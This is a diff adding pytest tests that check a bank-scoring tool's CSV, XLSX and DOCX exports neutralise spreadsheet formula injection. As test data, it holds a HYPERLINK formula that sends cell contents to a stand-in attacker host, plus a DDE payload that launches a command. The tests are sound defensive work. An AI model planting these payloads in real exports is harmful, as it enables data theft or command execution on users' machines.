@@ -1,11 +1,20 @@
-"""Result files: CSV with a BOM for Excel, XLSX with readable column widths."""
+"""Result files: CSV with a BOM for Excel, XLSX with readable column widths, and no cell that a
+spreadsheet would run (OWASP CSV injection)."""
 
 from __future__ import annotations
 
+import csv
+import shutil
+import subprocess
+import sys
+
+import duckdb
 import openpyxl
 import pandas as pd
+import pytest
 
-from scoring.export import MAX_WIDTH, write_table
+from scoring import bootstrap, db
+from scoring.export import MAX_WIDTH, neutralise, risky, write_table, write_workbook
 
 
 def test_csv_has_a_bom_and_round_trips(tmp_path):
@@ -24,3 +33,102 @@ def test_xlsx_columns_are_wide_enough_for_chinese_names(tmp_path):
     assert sheet.column_dimensions["B"].width >= 24
     assert sheet.column_dimensions["C"].width <= MAX_WIDTH + 1
     assert sheet.freeze_panes == "A2"
+
+
+# --- formula injection (issue 8 item 6; OWASP CSV injection) ---------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"点击查看")'
+STARTS = ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1+1", "\n@x"]
+
+
+@pytest.mark.parametrize("text", STARTS)
+def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
+    assert risky(text)
+    assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["-12.5", "+3", "-3.2%", "-1,200.50", "B01", "重庆银行", "a=b", "", -5, 3.5, None])
+def test_plain_numbers_and_ordinary_text_stay_as_they_are(value):
+    assert not risky(value)
+    assert neutralise(value) == value
+
+
+def test_csv_cells_and_headers_are_neutralised_and_numbers_stay_numbers(tmp_path):
+    frame = pd.DataFrame({"id": [HOSTILE, "B01", "@cmd"], "amount": [-5.25, 3.0, -1.0], "=head": ["-1", "x", None]})
+    path = write_table(frame, tmp_path / "x.csv")
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[0] == ["id", "amount", "'=head"]
+    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE, "B01", "'@cmd"]
+    assert [r[1] for r in rows[1:]] == ["-5.25", "3.0", "-1.0"], "numbers are written as numbers"
+    assert [r[2] for r in rows[1:]] == ["-1", "x", ""]
+    assert frame.loc[0, "id"] == HOSTILE, "the caller's frame is not changed"
+
+
+def test_xlsx_stores_hostile_text_as_quoted_text_never_a_formula(tmp_path):
+    frame = pd.DataFrame({"id": [HOSTILE, "http://evil.example", "B01"], "n": [-1, 2, 3]})
+    path = write_workbook({"s": frame}, tmp_path / "x.xlsx")
+    sheet = openpyxl.load_workbook(path)["s"]
+    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HOSTILE
+    assert sheet["A2"].quotePrefix, "Excel keeps the cell text when it is edited"
+    assert sheet["A3"].hyperlink is None, "no text becomes a live link"
+    assert sheet["B2"].value == -1 and sheet["B2"].data_type == "n"
+
+
+def _formula_cells(path):
+    book = openpyxl.load_workbook(path)
+    return [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_hostile_ids_reach_no_spreadsheet_as_formulas(demo_path, tmp_path):
+    """An application and a payment ID a bank chose reach sla.xlsx, the payment detail and the
+    CSVs as inert text; the amounts stay numbers."""
+    path = tmp_path / "x.duckdb"
+    shutil.copy(demo_path, path)
+    con = duckdb.connect(str(path))
+    app_id = con.execute("select min(app_id) from applications").fetchall()[0][0]
+    payment_id = con.execute("select min(payment_id) from interest_payments where paid_on between '2025-01-01' and "
+                             "'2025-12-31'").fetchall()[0][0]
+    con.execute("update applications set app_id = $h where app_id = $a", {"h": HOSTILE, "a": app_id})
+    con.execute("update interest_payments set payment_id = $h where payment_id = $p", {"h": HOSTILE, "p": payment_id})
+    con.close()
+    for suffix in ("xlsx", "csv"):
+        out = tmp_path / suffix
+        for args in (["sla", "--as-of", "2026-11-27", "--out", str(out / f"sla.{suffix}")],
+                     ["subsidy", "--year", "2025", "--out", str(out / f"subsidy.{suffix}"),
+                      "--detail", str(out / f"payments.{suffix}")]):
+            done = subprocess.run([sys.executable, "-m", "scoring", *args, "--db", str(path)],
+                                  capture_output=True, text=True, cwd=db.ROOT)
+            assert done.returncode == 0, done.stderr
+    for name in ("sla", "payments"):
+        assert _formula_cells(tmp_path / "xlsx" / f"{name}.xlsx") == []
+        frame = pd.read_excel(tmp_path / "xlsx" / f"{name}.xlsx", engine="openpyxl")
+        assert HOSTILE in set(frame.iloc[:, 0]), "the text itself is kept"
+        text = (tmp_path / "csv" / f"{name}.csv").read_text(encoding="utf-8-sig")
+        assert "'" + HOSTILE.replace('"', '""') in text
+        assert "\n" + HOSTILE.replace('"', '""') not in text and ',"=' not in text
+    payments = pd.read_excel(tmp_path / "xlsx" / "payments.xlsx", engine="openpyxl")
+    assert pd.api.types.is_numeric_dtype(payments["interest_paid"]), "money stays numbers"
+
+
+def test_evaluation_outputs_and_the_report_tables_are_neutralised(demo_path, tmp_path):
+    """A bank's name chosen as a formula reaches the evaluation CSVs, the workbook and the 通报
+    tables as inert text."""
+    from docx import Document
+
+    from scoring.report import write_report
+    from scoring.runs import evaluate_and_store, write_outputs
+
+    path = tmp_path / "x.duckdb"
+    shutil.copy(demo_path, path)
+    con = duckdb.connect(str(path))
+    con.execute("update institutions set name = $h where inst_id = 'B01'", {"h": HOSTILE})
+    run = evaluate_and_store(con, 2025, draws=0)
+    paths = write_outputs(run, tmp_path / "out")
+    report = write_report(con, run.run_id, tmp_path / "通报.docx")
+    con.close()
+    institutions = (tmp_path / "out" / "institutions.csv").read_text(encoding="utf-8-sig")
+    assert "'" + HOSTILE.replace('"', '""') in institutions and ',"=HYPER' not in institutions
+    assert _formula_cells(next(p for p in paths if p.suffix == ".xlsx")) == []
+    cells = [c.text for t in Document(report).tables for row in t.rows for c in row.cells]
+    assert "'" + HOSTILE in cells and HOSTILE not in cells
